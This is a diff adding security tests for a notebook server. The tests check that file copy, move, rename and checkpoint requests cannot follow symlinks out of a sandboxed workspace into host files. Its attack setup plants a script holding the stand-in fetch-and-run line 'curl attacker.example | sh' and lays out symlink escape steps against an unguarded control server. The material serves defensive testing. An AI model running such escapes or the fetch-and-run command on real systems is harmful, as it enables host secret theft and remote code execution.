@@ -48,6 +48,19 @@ os.rename('c/data', 'c/.ipynb_checkpoints')
 # d: the user's link to a private file, named as the notebook Lab checkpoints
 os.rename('d/nb.ipynb', 'd/old.ipynb')
 os.rename('d/notes.md', 'd/nb.ipynb')
+# f: the user's link to a private file, named as a file the user duplicates
+os.rename('f/notes.md', 'f/results.csv')
+# g: the user's link to a host folder, named as a folder the user moves a file into
+open('g/payload.sh', 'w').write('curl attacker.example | sh\\n')
+os.rename('g/data', 'g/archive')
+# h: the user's link to a private file, moved into a folder the user duplicates
+os.rename('h/notes.md', 'h/proj/notes.md')
+# i: the user's link to a host folder, named as the checkpoint a notebook's rename moves its own to
+os.mkdir('i/.ipynb_checkpoints')
+open('i/.ipynb_checkpoints/nb-checkpoint.ipynb', 'w').write({PLANTED.decode()!r})
+os.rename('i/data', 'i/.ipynb_checkpoints/analysis-checkpoint.ipynb')
+# j: a folder where the checkpoint Lab restores is
+os.makedirs('j/.ipynb_checkpoints/nb-checkpoint.ipynb')
 print('moved')
 """
 
@@ -87,15 +100,23 @@ class Layout:
         for script in ("a.sh", "b.sh"):
             (self.outside / script).write_text(USERS)
         (self.outside / "notes.md").write_text(SECRET)
-        for folder in "abcde":
+        for name in ("g-folder", "i-folder"):
+            (self.outside / name).mkdir()
+        for folder in "abcdefghij":
             (self.workspace / folder).mkdir(parents=True)
-            if folder != "e":
+            if folder in "abcdij":
                 (self.workspace / folder / "nb.ipynb").write_text(json.dumps(notebook_json(["1"])))
         (self.workspace / "a" / "startup.sh").symlink_to(self.outside / "a.sh")
         (self.workspace / "b" / "startup.sh").symlink_to(self.outside / "b.sh")
         (self.workspace / "c" / "data").symlink_to(self.outside / "folder", target_is_directory=True)
         (self.workspace / "d" / "notes.md").symlink_to(self.outside / "notes.md")
         (self.workspace / "e" / "data").symlink_to(self.outside / "folder", target_is_directory=True)
+        (self.workspace / "f" / "notes.md").symlink_to(self.outside / "notes.md")
+        (self.workspace / "g" / "data").symlink_to(self.outside / "g-folder", target_is_directory=True)
+        (self.workspace / "h" / "proj").mkdir()
+        (self.workspace / "h" / "proj" / "table.csv").write_text("a,b\n")
+        (self.workspace / "h" / "notes.md").symlink_to(self.outside / "notes.md")
+        (self.workspace / "i" / "data").symlink_to(self.outside / "i-folder", target_is_directory=True)
 
     def kernel(self, server: LabServer) -> SandboxKernelHandle:
         return shared_data_kernel(self.workspace, server.root / "kernels" / self.workspace.name, server.data_dir)
@@ -245,3 +266,83 @@ def test_saves_and_checkpoints_of_real_files_work_as_before(servers: dict[str, L
     status, _ = _api(server, "PUT", "plain/notes.txt", {"type": "file", "format": "text", "content": "héllo"})
     assert status == 200 and (server.notebooks / "plain" / "notes.txt").read_text() == "héllo"
     assert not [p.name for p in (server.notebooks / "plain").iterdir() if p.name.startswith(".~")]
+
+
+def _sandbox_reads(kernel: SandboxKernelHandle, path: str) -> str:
+    run = kernel.run(f"import os\np = {path!r}\nprint(open(p).read() if os.path.isfile(p) else 'nothing there')")
+    assert run.status == "ok", run.stderr
+    return run.stdout.strip()
+
+
+@pytest.mark.parametrize("which", ["guarded", "control"])
+def test_duplicating_a_file_copies_no_linked_host_file_into_the_workspace(
+    servers: dict[str, LabServer], attacked: dict[str, tuple[Layout, SandboxKernelHandle]], which: str
+) -> None:
+    server, (_, kernel) = servers[which], attacked[which]
+    status, message = _api(server, "POST", "work/f", {"copy_from": "work/f/results.csv"})
+    seen = _sandbox_reads(kernel, "/workspace/f/results-Copy1.csv")
+    if which == "control":  # the sandbox reads the host file it could not see
+        assert status == 200 and seen == SECRET.strip()
+        return
+    assert status == 403 and "work/f/results.csv is a symbolic link" in message, message
+    assert seen == "nothing there"
+
+
+@pytest.mark.parametrize("which", ["guarded", "control"])
+def test_a_move_or_a_new_folder_goes_through_no_linked_folder(
+    servers: dict[str, LabServer], attacked: dict[str, tuple[Layout, SandboxKernelHandle]], which: str
+) -> None:
+    server, (layout, _) = servers[which], attacked[which]
+    moved = _api(server, "PATCH", "work/g/payload.sh", {"path": "work/g/archive/payload.sh"})
+    made = _api(server, "PUT", "work/g/archive/new", {"type": "directory"})
+    outside = sorted(p.name for p in (layout.outside / "g-folder").iterdir())
+    if which == "control":  # the sandbox's script and a new folder land outside the workspace
+        assert moved[0] == 200 and made[0] == 200 and outside == ["new", "payload.sh"], (moved, made, outside)
+        return
+    for status, message in (moved, made):
+        assert status == 403 and "work/g/archive is a symbolic link" in message, message
+    assert outside == [] and (layout.workspace / "g" / "payload.sh").is_file()
+    # a move that goes through no link still works, and so does a new folder
+    assert _api(server, "PUT", "work/g/kept", {"type": "directory"})[0] == 200
+    assert _api(server, "PATCH", "work/g/payload.sh", {"path": "work/g/kept/payload.sh"})[0] == 200
+    assert (layout.workspace / "g" / "kept" / "payload.sh").is_file()
+
+
+@pytest.mark.parametrize("which", ["guarded", "control"])
+def test_duplicating_a_folder_follows_no_link_in_it(
+    servers: dict[str, LabServer], attacked: dict[str, tuple[Layout, SandboxKernelHandle]], which: str
+) -> None:
+    server, (_, kernel) = servers[which], attacked[which]
+    status, message = _api(server, "POST", "work/h", {"copy_from": "work/h/proj"})
+    seen = _sandbox_reads(kernel, "/workspace/h/proj-Copy1/notes.md")
+    if which == "control":
+        assert status == 200 and seen == SECRET.strip()
+        return
+    assert status == 403 and "proj/notes.md is a symbolic link" in message, message
+    assert seen == "nothing there"
+
+
+@pytest.mark.parametrize("which", ["guarded", "control"])
+def test_a_notebooks_rename_moves_no_checkpoint_into_a_linked_folder(
+    servers: dict[str, LabServer], attacked: dict[str, tuple[Layout, SandboxKernelHandle]], which: str
+) -> None:
+    server, (layout, _) = servers[which], attacked[which]
+    status, message = _api(server, "PATCH", "work/i/nb.ipynb", {"path": "work/i/analysis.ipynb"})
+    outside = sorted(p.name for p in (layout.outside / "i-folder").iterdir())
+    if which == "control":  # the sandbox's checkpoint is moved into the host folder
+        assert outside == ["nb-checkpoint.ipynb"], (status, message, outside)
+        return
+    assert status == 409 and "analysis-checkpoint.ipynb already exists" in message, message
+    assert outside == []
+
+
+def test_a_folder_where_a_checkpoint_is_gets_a_clear_answer_and_keeps_nothing_open(
+    servers: dict[str, LabServer], attacked: dict[str, tuple[Layout, SandboxKernelHandle]]
+) -> None:
+    server = servers["guarded"]
+    fds = lambda: len(os.listdir(f"/proc/{server.proc.pid}/fd"))  # noqa: E731
+    before = fds()
+    for _ in range(40):
+        status, message = _api(server, "POST", "work/j/nb.ipynb/checkpoints/checkpoint")
+        assert status == 400 and "nb-checkpoint.ipynb is not a file" in message, (status, message)
+    assert fds() < before + 10, (before, fds())
